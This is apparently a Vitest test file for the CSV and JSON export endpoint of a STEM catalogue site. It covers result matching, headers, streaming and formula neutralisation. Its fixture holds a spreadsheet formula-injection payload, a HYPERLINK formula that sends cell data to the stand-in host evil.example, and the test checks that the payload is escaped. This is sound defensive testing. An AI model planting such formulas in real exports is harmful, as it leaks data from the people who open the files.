import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import { GET } from "../../app/api/v1/export/route";
import { loadEntries } from "../../lib/catalogue/load";
import { entryInputSchema, type EntryInput } from "../../lib/catalogue/schema";
import { generateSyntheticEntries } from "../../lib/catalogue/synthetic";
import { EXPORT_COLUMNS, type ExportRecord } from "../../lib/export/columns";
import { csvChunks } from "../../lib/export/csv";
import { EXPORT_BATCH_SIZE, exportBatches, exportSearch } from "../../lib/export/export-search";
import { searchCatalogue } from "../../lib/search";
import { matchingEntryIds } from "../../lib/search/sql/matching-ids";
import { parseSearchParams } from "../../lib/search/query";
import { parseCsv } from "../support/csv";

const HOSTILE: EntryInput = {
  slug: "hostile-export",
  kind: "resource",
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"Klondyx")',
  summary: '+1 "quoted", with commas,\nand a line break in a Klondyx summary.',
  description: "An entry whose texts try to run as spreadsheet formulas when an export is opened.",
  countries: ["MT"],
  levels: ["primary"],
  themes: ["mathematics"],
  funder: "-2+3",
  budget: "@SUM(A1:A9)",
  sources: [{ title: "Test fixture" }],
};

/** The whole body of an export, and how many chunks it came in. */
async function download(qs: string) {
  const outcome = await exportSearch(new URLSearchParams(qs));
  if (!outcome.ok) throw new Error(`export refused: ${outcome.message}`);
  const reader = outcome.download.body.getReader();
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for (let next = await reader.read(); !next.done; next = await reader.read()) {
    text += decoder.decode(next.value, { stream: true });
    chunks++;
  }
  return { text: text + decoder.decode(), chunks, download: outcome.download };
}

/** Every slug of a search, page by page, as the search pages list them. */
async function searchSlugs(qs: string): Promise<string[]> {
  const slugs: string[] = [];
  for (let page = 1; ; page++) {
    const { query } = parseSearchParams(new URLSearchParams(`${qs}&pageSize=100&page=${page}`));
    const result = await searchCatalogue(query);
    slugs.push(...result.hits.map((h) => h.slug));
    if (result.hits.length < 100) return slugs;
  }
}

const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);

beforeAll(async () => {
  await loadEntries([entryInputSchema.parse(HOSTILE)], "test");
});

describe("exports list exactly what the search lists", () => {
  it.each(["country=RO", "kind=programme&kind=resource&sort=title", "q=stem", "q=teachers&level=primary&sort=newest", "q=girls&sort=title"])(
    "%s, in the same order, as JSON and CSV",
    async (qs) => {
      const expected = await searchSlugs(qs);
      const { query } = parseSearchParams(new URLSearchParams(qs));
      expect(expected).toHaveLength((await searchCatalogue(query)).total);
      expect(expected.length).toBeGreaterThan(0);

      const json = await download(`${qs}&format=json`);
      const items: ExportRecord[] = JSON.parse(json.text);
      expect(items.map((i) => i.slug)).toEqual(expected);
      expect(Object.keys(items[0] ?? {})).toEqual([...EXPORT_COLUMNS]);

      const [header, ...rows] = parseCsv((await download(`${qs}&format=csv`)).text);
      expect(header).toEqual([...EXPORT_COLUMNS]);
      expect(rows.map((r) => r[column("slug")])).toEqual(expected);
      expect(rows.every((r) => r.length === EXPORT_COLUMNS.length)).toBe(true);
    },
  );

  it("fills every column of a known entry", async () => {
    const [item]: ExportRecord[] = JSON.parse((await download("q=quakesafe&kind=project-team&format=json&limit=1")).text);
    expect(item).toMatchObject({ slug: "quakesafe", kind: "Project team", kind_code: "project-team", url: expect.stringMatching(/^https?:\/\/[^/]+\/entries\/quakesafe$/) });
    expect(item?.country_codes).toContain("MK");
    // Names beside codes, in the same order.
    expect(item?.countries[item.country_codes.indexOf("MK")]).toBe("North Macedonia");
    expect(item?.countries).toHaveLength(item?.country_codes.length ?? -1);
    expect(item?.theme_codes.length).toBeGreaterThan(0);
    expect(item?.themes).not.toEqual(item?.theme_codes);
    expect(Date.parse(item?.published_at ?? "")).not.toBeNaN();
    expect(item?.updated_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });

  it("names the organisations an entry links to", async () => {
    const items: ExportRecord[] = JSON.parse((await download("kind=programme&format=json")).text);
    expect(items.some((i) => i.organisations.length > 0)).toBe(true);
  });

  it("honours limit and stops at the cap without one", async () => {
    const all = await searchSlugs("country=RO");
    const { text } = await download("country=RO&format=json&limit=3");
    expect(JSON.parse(text).map((i: ExportRecord) => i.slug)).toEqual(all.slice(0, 3));
    const refused = await exportSearch(new URLSearchParams("country=RO"), { maxEntries: 2 });
    expect(refused).toMatchObject({ ok: false, code: "export_too_large" });
  });

  it("refuses bad parameters with the problems listed", async () => {
    const outcome = await exportSearch(new URLSearchParams("format=xml&country=ZZ&limit=100001"));
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) {
      expect(outcome.code).toBe("invalid_query");
      expect(outcome.details).toHaveLength(3);
    }
  });
});

describe("the route", () => {
  it("answers a download with its headers", async () => {
    const response = await GET(new NextRequest("http://localhost/api/v1/export?format=csv&country=RO"));
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="stem-clearinghouse-ro-\d{4}-\d\d-\d\d\.csv"; filename\*=UTF-8''stem-clearinghouse-ro-\d{4}-\d\d-\d\d\.csv$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    // A script on another site may read the file name it is given.
    expect(response.headers.get("access-control-expose-headers")?.split(/,\s*/)).toContain("Content-Disposition");
    // A UTF-8 byte-order mark first (Response.text() would read past it).
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).startsWith('\uFEFF"slug","url","kind","kind_code","title",')).toBe(true);
  });

  it.each(["format=xml", "limit=100001", "limit=ten", "level=nope"])("answers %s with 400 and the envelope", async (qs) => {
    const response = await GET(new NextRequest(`http://localhost/api/v1/export?${qs}`));
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body.error).toMatchObject({ code: "invalid_query", message: expect.any(String), details: expect.any(Array) });
  });
});

describe("hostile values", () => {
  it("are neutralised and quoted in CSV and kept as written in JSON", async () => {
    const { text, download: meta } = await download("q=klondyx&format=csv");
    expect(meta.contentType).toBe("text/csv; charset=utf-8");
    expect(meta.filename).toMatch(/^stem-clearinghouse-klondyx-\d{4}-\d\d-\d\d\.csv$/);
    const [, row, ...rest] = parseCsv(text);
    expect(rest).toEqual([]);
    expect(row?.[column("title")]).toBe(`'${HOSTILE.title}`);
    expect(row?.[column("summary")]).toBe(`'${HOSTILE.summary}`);
    expect(row?.[column("funder")]).toBe("'-2+3");
    expect(row?.[column("budget")]).toBe("'@SUM(A1:A9)");
    // No cell of any line may start with a formula character unquoted.
    expect(text).not.toMatch(/(^|,)[=+\-@]/m);

    const [item]: ExportRecord[] = JSON.parse((await download("q=klondyx&format=json")).text);
    expect(item?.title).toBe(HOSTILE.title);
  });
});

describe("streaming", () => {
  const SYNTHETIC = 5000;

  beforeAll(async () => {
    for (let start = 0; start < SYNTHETIC; start += 2500) {
      await loadEntries(generateSyntheticEntries(2500, { startIndex: start }), "synthetic");
    }
  }, 300_000);

  it("reads the entries batch by batch and writes CSV as it goes", async () => {
    const { query } = parseSearchParams(new URLSearchParams(""));
    const ids = await matchingEntryIds(query, 100_000);
    expect(ids.length).toBeGreaterThanOrEqual(SYNTHETIC);

    const sizes: number[] = [];
    async function* counted() {
      for await (const batch of exportBatches(ids)) {
        sizes.push(batch.length);
        yield batch;
      }
    }
    let chunks = 0;
    let batchesWhenFirstChunk = -1;
    let text = "";
    for await (const chunk of csvChunks(counted())) {
      if (chunks++ === 0) batchesWhenFirstChunk = sizes.length;
      text += chunk;
    }
    expect(sizes).toHaveLength(Math.ceil(ids.length / EXPORT_BATCH_SIZE));
    expect(sizes.every((s) => s <= EXPORT_BATCH_SIZE)).toBe(true);
    // The first rows went out before most batches had been read.
    expect(batchesWhenFirstChunk).toBeLessThan(3);
    expect(chunks).toBeGreaterThan(sizes.length / 2);
    expect(parseCsv(text)).toHaveLength(ids.length + 1);
  });

  it("streams a large filtered export in many chunks, complete", async () => {
    const qs = "country=RO&country=DE&country=ES";
    const { query } = parseSearchParams(new URLSearchParams(qs));
    const total = (await searchCatalogue(query)).total;
    expect(total).toBeGreaterThan(EXPORT_BATCH_SIZE * 2);

    const csv = await download(`${qs}&format=csv`);
    expect(csv.chunks).toBeGreaterThan(2);
    expect(parseCsv(csv.text)).toHaveLength(total + 1);

    const json = await download(`${qs}&format=json`);
    expect(json.chunks).toBeGreaterThanOrEqual(Math.ceil(total / EXPORT_BATCH_SIZE));
    expect(JSON.parse(json.text)).toHaveLength(total);
  });

  it("stops reading when the download is cancelled", async () => {
    const outcome = await exportSearch(new URLSearchParams("format=json"));
    if (!outcome.ok) throw new Error(outcome.message);
    const reader = outcome.download.body.getReader();
    await reader.read();
    await reader.cancel();
    expect(await reader.closed).toBeUndefined();
  });
});
